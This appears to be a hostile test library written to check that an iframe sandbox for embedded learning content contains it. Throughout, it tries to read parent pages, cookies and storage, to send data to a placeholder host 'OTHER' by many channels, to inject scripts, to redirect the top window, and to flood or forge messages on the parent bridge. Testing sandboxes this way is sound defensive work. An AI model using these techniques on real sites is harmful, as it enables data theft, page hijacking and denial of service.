/* A library that means harm: tries whatever could reach the page, its storage or another host, and tells what came of it.
   OTHER is a server elsewhere, which listens for anything. Nothing of this may succeed. */
window.Test = { Hostile: function () { this.attach = function ($container) { $container.text('harmless'); }; } };
(function (w, d) {
  'use strict';
  var other = 'http://OTHER', said = {}, waiting = [];

  function ring(Kind) {
    var call = new Kind({ iceServers: [{ urls: 'stun:OTHER' }] });
    call.createDataChannel('x');
    call.createOffer().then(function (offer) { return call.setLocalDescription(offer); });
  }

  /* In a frame within the frame, where what was taken away might be there again. */
  if (w.parent !== w.top) {
    try { ring(w.RTCPeerConnection || w.webkitRTCPeerConnection); w.top.postMessage('rang', '*'); } catch (e) { w.top.postMessage('tried: ' + e.name, '*'); }
  }

  function now(name, act) {
    try { said[name] = 'done: ' + String(act()).slice(0, 60); } catch (e) { said[name] = 'failed: ' + (e && e.name); }
  }

  function later(name, start) {
    waiting.push(new Promise(function (end) {
      var isOver = false;
      function over(text) { if (!isOver) { isOver = true; said[name] = text; end(); } }
      w.setTimeout(function () { over('failed: nothing came'); }, 2500);
      try { start(function () { over('done'); }, function (e) { over('failed: ' + (e && (e.name || e.type))); }); } catch (e) {
        over('failed: ' + e.name);
      }
    }));
  }

  function promised(name, make) {
    later(name, function (done, failed) { make().then(done, failed); });
  }

  function element(name, tag, set) {
    later(name, function (done, failed) {
      var one = d.createElement(tag);
      one.onload = one.oncanplay = done;
      one.onerror = failed;
      set(one);
      d.body.appendChild(one);
    });
  }

  function all() {
    now('the parent document', function () { return w.parent.document.body.innerHTML; });
    now('the top document', function () { return w.top.document.title; });
    now('the address of the top', function () { return w.top.location.href; });
    now('the cookies', function () { return d.cookie; });
    now('writing cookies', function () { d.cookie = 'a=b'; return d.cookie; });
    now('the storage through a frame of its own', function () {
      var frame = d.createElement('iframe');
      d.body.appendChild(frame);
      return frame.contentWindow.localStorage.getItem('secret');
    });
    now('the storage', function () { if (w.localStorage.getItem('secret') === null) { throw { name: 'empty' }; } });
    now('databases', function () { return w.indexedDB.open('x'); });
    now('moving the top', function () { w.top.location.href = other + '/top'; return 'asked'; });
    now('moving the parent', function () { w.parent.location.replace(other + '/parent'); return 'asked'; });
    now('a window', function () { if (!w.open(other + '/window')) { throw { name: 'none' }; } });
    now('a call', function () { return new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:OTHER' }] }).createDataChannel('x'); });
    now('a beacon', function () { if (!w.navigator.sendBeacon(other + '/beacon', 'x')) { throw { name: 'refused' }; } return 'queued'; });
    promised('caches', function () { return w.caches.open('x'); });
    promised('a worker that serves', function () { return w.navigator.serviceWorker.register('/sw.js'); });
    promised('fetching elsewhere', function () { return w.fetch(other + '/fetch', { mode: 'no-cors' }); });
    promised('reading a page of the site', function () { return w.fetch('/robots.txt', { credentials: 'include' }).then(function (r) { return r.text(); }); });
    later('XHR elsewhere', function (done, failed) {
      var ask = new w.XMLHttpRequest();
      ask.onload = done; ask.onerror = failed;
      ask.open('POST', other + '/xhr'); ask.send('x');
    });
    later('a socket', function (done, failed) {
      var socket = new w.WebSocket('ws://OTHER/socket');
      socket.onopen = done; socket.onerror = failed;
    });
    later('a stream of events', function (done, failed) {
      var source = new w.EventSource(other + '/events');
      source.onopen = done; source.onerror = failed;
    });
    later('a worker', function (done, failed) {
      var worker = new w.Worker(w.URL.createObjectURL(new w.Blob(['postMessage(1); fetch("' + other + '/worker")'])));
      worker.onmessage = done; worker.onerror = failed;
    });
    element('a picture', 'img', function (one) { one.src = other + '/picture.png'; });
    element('a script', 'script', function (one) { one.src = other + '/script.js'; });
    element('a stylesheet', 'link', function (one) { one.rel = 'stylesheet'; one.href = other + '/style.css'; });
    element('a film', 'video', function (one) { one.preload = 'auto'; one.src = other + '/film.mp4'; });
    element('an object', 'object', function (one) { one.data = other + '/object'; });
    element('an embed', 'embed', function (one) { one.src = other + '/embed'; });
    ['preload', 'prefetch', 'preconnect', 'modulepreload', 'manifest'].forEach(function (rel) {
      var link = d.createElement('link');
      link.rel = rel; link.as = 'image'; link.href = other + '/' + rel;
      d.head.appendChild(link);
    });
    now('a form', function () {
      var form = d.createElement('form');
      form.method = 'post'; form.action = other + '/form'; form.target = '_top';
      d.body.appendChild(form);
      form.submit();
      return 'asked';
    });
    now('a link to the top', function () {
      var link = d.createElement('a');
      link.href = other + '/link'; link.target = '_top';
      d.body.appendChild(link);
      link.click();
      return 'asked';
    });
    now('a picture by style', function () { d.body.style.backgroundImage = 'url(' + other + '/background.png)'; return 'asked'; });
    now('another base', function () {
      var base = d.createElement('base');
      base.href = other + '/';
      d.head.appendChild(base);
      if (d.baseURI.indexOf(other) === 0) { return 'moved'; }
      throw { name: 'same' };
    });
    w.Promise.all(waiting).then(function () { w.mwangaSend('xapi', { said: said }); });
  }

  function lies() {
    var nonce = 'x', i, big = new w.Array(2097152).join('x'), circle = {};
    circle.circle = circle;
    function post(message) { try { w.parent.postMessage(message, '*'); } catch (e) { /* not even sent */ } }
    post({ h5p: 1, nonce: 'forged-forged-forged', t: 'xapi', d: { lie: 'forged nonce' } });
    post({ h5p: 1, t: 'xapi', d: { lie: 'no nonce' } });
    post('text');
    post(null);
    w.mwangaSend('xapi', { lie: 'too large', big: big });
    w.mwangaSend('xapi', ['lie: a list']);
    w.mwangaSend('constructor', { lie: 'unknown kind' });
    w.mwangaSend('__proto__', { lie: 'unknown kind' });
    w.mwangaSend('state', { dataType: {}, subContentId: 0, data: 'lie' });
    w.mwangaSend('state', { dataType: 'state', subContentId: 0, data: big });
    w.mwangaSend('size', { height: 'lie' });
    w.mwangaSend('size', { height: 1e300 });
    w.mwangaSend('finished', { score: 'lie', max: 1, time: 0 });
    for (i = 0; i < 20000; i++) { w.mwangaSend('xapi', { flood: i }); }
    w.mwangaSend('size', { height: 150 });
  }

  w.mwangaHostile = {
    all: all,
    lies: lies,
    calls: function () {
      var text = 'var c = new (window.RTCPeerConnection || window.webkitRTCPeerConnection)({iceServers: [{urls: "stun:OTHER"}]});' +
        'c.createDataChannel("x"); c.createOffer().then(function (o) { return c.setLocalDescription(o); });';
      var script = '<script>' + text + '<\/script>', quoted = text.replace(/"/g, '&quot;');
      var again = [].map.call(d.scripts, function (one) {
        return one.src ? '<script src="' + one.src + '"><\/script>' : '<script>' + one.text + '<\/script>';
      });
      function frame(set) {
        var one = d.createElement('iframe');
        try { if (set) { set(one); } d.body.appendChild(one); } catch (e) { /* refused */ }
        return one;
      }
      function inside(act) { try { act(frame().contentWindow); } catch (e) { /* another origin */ } }
      function address(of) { frame(function (one) { one.src = of; }); }
      function page(html) { frame(function (one) { one.srcdoc = html; }); }
      [w.RTCPeerConnection, w.webkitRTCPeerConnection, Object.getPrototypeOf(w).RTCPeerConnection].forEach(function (Kind) {
        if (Kind) { ring(Kind); }
      });
      page(script);
      page('<script nonce="x">' + text + '<\/script>');
      page('<img src="x" onerror="' + quoted + '"><svg onload="' + quoted + '"></svg>');
      page('<script type="module">' + text + '<\/script>');
      page('<script src="data:text/javascript,' + encodeURIComponent(text) + '"><\/script>');
      page('<script src="' + w.URL.createObjectURL(new w.Blob([text], { type: 'text/javascript' })) + '"><\/script>');
      page('<iframe srcdoc="' + script.replace(/"/g, '&quot;') + '"></iframe>');
      /* The scripts of this document may run there too, one by one and all together. */
      again.concat(again.join('')).forEach(page);
      address('javascript:' + encodeURIComponent(text));
      address('data:text/html,' + encodeURIComponent(script));
      address(w.URL.createObjectURL(new w.Blob([script], { type: 'text/html' })));
      inside(function (at) { return new at.RTCPeerConnection({ iceServers: [{ urls: 'stun:OTHER' }] }).createDataChannel('x'); });
      inside(function (at) { at.document.write(script); });
      inside(function (at) { at.eval(text); });
      inside(function (at) { at.location = 'javascript:' + encodeURIComponent(text); });
    },
    /* What a browser would fetch before anybody goes there. */
    speculates: function () {
      var rules = d.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', eagerness: 'immediate', urls: [other + '/speculated'] }] });
      d.head.appendChild(rules);
    },
    away: function () { w.location.href = other + '/away'; },
    home: function () { w.location.href = '/en/'; },
    meta: function () {
      var meta = d.createElement('meta');
      meta.httpEquiv = 'refresh'; meta.content = '0;url=' + other + '/meta';
      d.head.appendChild(meta);
    }
  };
}(window, document));
